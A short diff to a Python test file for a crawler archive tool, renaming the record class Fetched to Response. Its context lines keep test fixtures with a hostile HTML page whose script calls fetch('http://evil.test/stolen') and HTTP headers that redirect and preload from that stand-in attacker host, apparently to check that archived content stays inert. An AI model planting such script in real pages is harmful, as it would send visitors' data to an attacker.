@@ -17,7 +17,7 @@ from tests.support.serving import Answered, get, serve
 from tests.support.towns import visit, written
 
 from toponaut.archive import ArchiveWriter
-from toponaut.records import Fetched, Outcome, Visit
+from toponaut.records import Outcome, Response, Visit
 
 EVIL = "http://evil.test"
 SCRIPT = """<html><head><title></title><script>fetch('http://evil.test/stolen')</script></head>
@@ -71,7 +71,7 @@ def crawled(root: Path, strangers: tuple[Stranger, ...]) -> Path:
         for number, one in enumerate(strangers):
             packed = f"Content-Encoding: {one.encoding}\r\n" if one.encoding else ""
             head = f"HTTP/1.1 200 OK\r\nContent-Type: {one.content_type}\r\n{packed}Refresh: 0;url={EVIL}\r\nLink: <{EVIL}>; rel=preload\r\n\r\n"
-            fetched = Fetched(
+            fetched = Response(
                 url_of(one), 200, one.body, one.content_type, started=1.8e9, response_head=head.encode(), payload=one.body
             )  # fmt: skip
             stored = archive.write(fetched, {})
